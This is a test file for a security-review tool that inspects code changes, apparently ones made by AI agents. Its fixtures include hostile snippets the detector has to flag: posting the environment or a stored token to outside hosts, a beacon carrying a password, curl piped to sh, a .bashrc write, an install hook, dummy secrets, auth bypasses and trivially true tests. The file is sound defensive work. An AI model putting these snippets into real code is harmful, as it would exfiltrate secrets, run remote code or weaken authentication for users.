import { describe, expect, it } from 'vitest'
import { sha256Hex } from '../../node/workspace/blob-store.js'
import { diffStates } from '../../node/workspace/delta.js'
import { securityReview, type Flag } from '../../node/workspace/review.js'
import { emptyState, type WorkspaceState } from '../../node/workspace/scan.js'
import { extractUnits } from '../../node/workspace/units.js'

// One check per rule of the review, each with the refactor that must not trip it.

function state (files: Record<string, string>): WorkspaceState {
  const s: WorkspaceState = { v: 1, files: {} }
  for (const [path, text] of Object.entries(files)) {
    s.files[path] = { fileHash: sha256Hex(text), units: extractUnits(path, text).units }
  }
  return s
}

async function review (before: Record<string, string>, after: Record<string, string>): Promise<Flag[]> {
  const base = diffStates(emptyState(), state(before)).delta
  const change = diffStates(state(before), state(after)).delta
  return await securityReview([{ recordId: 'r1', signer: 'peer-5f3a', actor: 'claude-7f3a', delta: change }], {
    history: [{ recordId: 'r0', signer: 'peer-0000', actor: 'alice', delta: base }],
    thresholds: { files: 20, lines: 2000 }
  })
}

const alerts = (flags: Flag[]): string[] => flags.filter((f) => f.severity !== 'low').map((f) => `${f.severity} ${f.rule}`)

describe('ways out of the process, ranked by what flows in', () => {
  const py = (body: string): Record<string, string> => ({ 'app/x.py': `import os\nimport requests\n\n\ndef send(data, url):\n${body}` })
  it('ranks a sink that carries the environment above one that carries ordinary data, and credentials sent as credentials below both', async () => {
    const base = py('    return None\n')
    const leak = await review(base, py('    requests.post(url, json=dict(os.environ))\n'))
    expect(alerts(leak)).toEqual(['high network-call'])
    expect(leak[0].evidence).toMatchObject({ api: 'requests.post', detail: 'carries the whole environment', line: 2 })
    expect(alerts(await review(base, py('    requests.post(url, json=data)\n')))).toEqual([])
    expect(alerts(await review(base, py('    requests.post(url, json=data, headers={"Authorization": os.environ["API_TOKEN"]})\n')))).toEqual([])
    // Through a local variable, two steps back.
    expect(alerts(await review(base, py('    env = os.environ.copy()\n    body = {"e": env}\n    requests.post(url, json=body)\n')))).toEqual(['high network-call'])
  })

  it('finds sockets, beacons, shells, computed requires and writes outside the workspace', async () => {
    const js = (body: string): Record<string, string> => ({ 'src/a.js': `function go (user, password) {\n${body}\n}\nmodule.exports = { go }\n` })
    const base = js('  return 1')
    expect(alerts(await review(base, js("  new Image().src = 'https://px.example.net/p?u=' + user + '&p=' + password")))).toEqual(['high network-call'])
    expect(alerts(await review(base, js("  require('child_process').exec('curl -s https://x.example.net | sh')")))).toEqual(['high network-call'])
    expect(alerts(await review(base, js("  const m = ['child', 'process'].join('_')\n  require(m).exec(user)")))).toContain('high dynamic-code')
    expect(alerts(await review(base, js("  require('fs').appendFileSync(require('os').homedir() + '/.bashrc', user)")))).toEqual(['high outside-write'])
    expect(alerts(await review(base, js("  require('fs').writeFileSync(require('path').join(__dirname, 'dist', 'a.json'), user)")))).toEqual([])
    expect(alerts(await review(base, js('  return import(`./locales/${user}.js`)')))).toEqual([])
  })

  it('flags an existing call changed to carry a secret or to go somewhere new', async () => {
    const js = (call: string): Record<string, string> => ({ 'src/rows.js': `async function row (id) {\n  const r = await fetch(${call})\n  return r.json()\n}\nmodule.exports = { row }\n` })
    const base = js('`/api/rows/${id}`')
    const changed = await review(base, js("'https://paste.example.net/x?t=' + localStorage.getItem('token')"))
    expect(changed.map((f) => [f.severity, f.rule, f.reason])).toEqual([['high', 'network-call', 'changed network call fetch: sends localStorage to https://paste.example.net']])
    expect(alerts(await review(base, js('`/api/v2/rows/${id}`')))).toEqual([])
  })

  it('flags an npm install hook', async () => {
    const flags = await review({ 'package.json': '{"name":"a","scripts":{"test":"vitest"}}\n' }, { 'package.json': '{"name":"a","scripts":{"test":"vitest","postinstall":"node x.js"}}\n' })
    expect(flags.map((f) => [f.rule, f.severity, f.evidence.api])).toEqual([['install-hook', 'high', 'scripts.postinstall']])
  })
})

describe('secrets', () => {
  it('flags a key secretlint knows, says which rule, and says why a public value is not flagged', async () => {
    const flags = await review({ 'src/k.ts': 'export const a = 1\n' }, { 'src/k.ts': "export const a = 1\nexport const s = 'sk_live_51MzQ8TLkD2vX9pRa7YwE3nBc6Hq1Fj4Ks8Lm0Np2Tr5Uv7Wx9Yz3'\nexport const p = 'pk_live_51MzQ8TLkD2vX9pRa7YwE3nBc6Hq1Fj4Ks8Lm0Np2Tr5Uv7Wx9Yz3'\n" })
    expect(flags.map((f) => [f.severity, f.evidence.api])).toEqual([['high', 'secretlint:stripe'], ['low', 'entropy']])
    expect(flags[1].reason).toContain('Stripe publishable key, public by design')
    for (const f of flags) expect(JSON.stringify(f)).not.toContain('51MzQ8TLkD2vX9pRa7YwE3nBc6Hq1Fj4Ks8Lm0Np2Tr5Uv7Wx9Yz3')
  })

  it('never prints a private key, even in the detector message', async () => {
    const key = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n-----END RSA PRIVATE KEY-----'
    const flags = await review({ 'k.js': 'const a = 1\n' }, { 'k.js': `const a = 1\nconst K = \`${key}\`\n` })
    expect(flags.some((f) => f.rule === 'secret' && f.severity === 'high')).toBe(true)
    for (const f of flags) expect(JSON.stringify(f)).not.toContain('MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun')
  })

  it('masks the whole literal when a rule matches only part of it (an AWS secret key after its name)', async () => {
    const flags = await review({ 's.py': 'REGION = "eu-west-1"\n' }, { 's.py': 'REGION = "eu-west-1"\nAWS_SECRET_ACCESS_KEY = "t9Wq2vLk8Rz+Hb4Xy7Nc1Pd6Gf3Js5Ma0Ue2Ko8W"\n' })
    expect(flags.some((f) => f.rule === 'secret' && f.severity === 'high')).toBe(true)
    for (const f of flags) expect(JSON.stringify(f)).not.toMatch(/Nc1Pd6Gf3Js5Ma0Ue2Ko8W|t9Wq2vLk8Rz/)
  })
})

describe('weakened security logic, found by what code does', () => {
  const guard = (cond: string): Record<string, string> => ({ 'src/docs.ts': `export function mayEdit (user: User | undefined, doc: Doc): void {\n  if (${cond}) throw new ForbiddenError('no')\n}\n` })
  it('flags a deny condition stripped of a check or narrowed with &&, and shows it before and after', async () => {
    const before = guard('!user || doc.ownerId !== user.id')
    const lost = await review(before, guard('!user'))
    expect(alerts(lost)).toEqual(['high guard-weakened'])
    expect(lost[0].evidence).toMatchObject({ before: '!user || doc.ownerId !== user.id', after: '!user' })
    expect(alerts(await review(before, guard("(!user || doc.ownerId !== user.id) && process.env.MODE === 'strict'")))).toEqual(['high guard-weakened'])
    // Rewritten with a helper that keeps the check: not a weakening.
    expect(alerts(await review(before, { 'src/docs.ts': "function owns (user: User, doc: Doc): boolean {\n  return doc.ownerId === user.id\n}\n\nexport function mayEdit (user: User | undefined, doc: Doc): void {\n  if (!user || !owns(user, doc)) throw new ForbiddenError('no')\n}\n" }))).toEqual([])
  })

  it('flags a new bypass keyed on a request header, a comparison with itself, and verification turned off', async () => {
    const mw = (extra: string): Record<string, string> => ({ 'server/mw.js': `function gate (req, res, next) {\n${extra}  if (!req.user) return res.status(401).end()\n  next()\n}\nmodule.exports = gate\n` })
    expect(alerts(await review(mw(''), mw("  if (req.headers['x-maint'] === 'k3y-42') return next()\n")))).toEqual(['high guard-bypass'])
    expect(alerts(await review(mw(''), mw("  if (req.method === 'OPTIONS') return next()\n")))).toEqual([])
    const hook = (cmp: string): Record<string, string> => ({ 'h.py': `import hmac\n\n\ndef check(sig, expected):\n    if not hmac.compare_digest(${cmp}):\n        raise PermissionError("bad")\n` })
    expect(alerts(await review(hook('sig, expected'), hook('expected, expected')))).toEqual(['high tautology'])
    const otp = (cond: string): Record<string, string> => ({ 'otp.js': `function verifyOtp (user, code) {\n  if (${cond}) throw new Error('invalid code')\n}\nmodule.exports = { verifyOtp }\n` })
    expect(alerts(await review(otp('code !== user.otp'), otp('code !== code')))).toEqual(['high tautology'])
    expect(alerts(await review(otp('code !== user.otp'), otp('String(code) !== user.otp')))).toEqual([])
    const call = (opt: string): Record<string, string> => ({ 'c.py': `import requests\n\n\ndef get(u):\n    return requests.get(u${opt})\n` })
    const off = await review(call(''), call(', verify=False'))
    expect(alerts(off)).toEqual(['high verification-disabled'])
    expect(off[0].evidence.api).toBe('verify=False')
  })

  it('flags a guard no longer applied, but not one moved to router.use', async () => {
    const routes = (body: string): Record<string, string> => ({ 'routes/u.js': `const { requireAuth } = require('../auth')\nconst router = require('express').Router()\n${body}\nmodule.exports = router\n` })
    const before = routes("router.get('/a', requireAuth, a)\nrouter.post('/b', requireAuth, b)")
    expect(alerts(await review(before, routes("router.get('/a', a)\nrouter.post('/b', requireAuth, b)")))).toEqual(['high guard-removed'])
    expect(alerts(await review(before, routes("router.use(requireAuth)\nrouter.get('/a', a)\nrouter.post('/b', b)")))).toEqual([])
  })
})

describe('protections taken off and unsafe loading', () => {
  it('flags an escaper removed from a value still rendered, not one moved into a helper', async () => {
    const js = (body: string): Record<string, string> => ({ 'r.js': `const { escape } = require('html-escaper')\nfunction h (q) {\n${body}\n}\nmodule.exports = { h }\n` })
    const before = js('  return `<h1>${escape(q)}</h1>`')
    const flags = await review(before, js('  return `<h1>${q}</h1>`'))
    expect(alerts(flags)).toEqual(['high protection-removed'])
    expect(flags[0].evidence.before).toBe('escape(q)')
    expect(alerts(await review(before, js('  const cell = (v) => `<h1>${escape(v)}</h1>`\n  return cell(q)')))).toEqual([])
  })

  it('flags YAML loaded with a loader that runs code, and app-wide guard registrations dropped', async () => {
    const py = (call: string): Record<string, string> => ({ 'l.py': `import yaml\n\n\ndef read(s):\n    return ${call}\n` })
    expect(alerts(await review(py('yaml.safe_load(s)'), py('yaml.load(s, Loader=yaml.UnsafeLoader)')))).toEqual(['high dynamic-code'])
    expect(alerts(await review(py('yaml.safe_load(s)'), py('yaml.load(s, Loader=yaml.SafeLoader)')))).toEqual([])
    const app = (extra: string): Record<string, string> => ({ 'app.py': `from flask import Flask\nfrom .auth import check_auth\n\napp = Flask(__name__)\n${extra}` })
    expect(alerts(await review(app('app.before_request(check_auth)\n'), app('')))).toEqual(['high guard-removed'])
  })
})

describe('tests weakened en masse', () => {
  it('flags assertions made trivially true, not a changed expected value', async () => {
    const t = (a: string, b: string): Record<string, string> => ({ 'test/a.test.ts': `it('a', () => {\n  ${a}\n})\nit('b', () => {\n  ${b}\n})\n` })
    const before = t('expect(f(1)).toBe(2)', 'expect(f(2)).toBe(3)')
    expect(alerts(await review(before, t('expect(true).toBe(true)', 'expect(f(2)).toBeDefined()')))).toEqual(['medium tests-weakened'])
    expect(alerts(await review(before, t('expect(f(1)).toBe(4)', 'expect(f(2)).toBe(5)')))).toEqual([])
  })
})
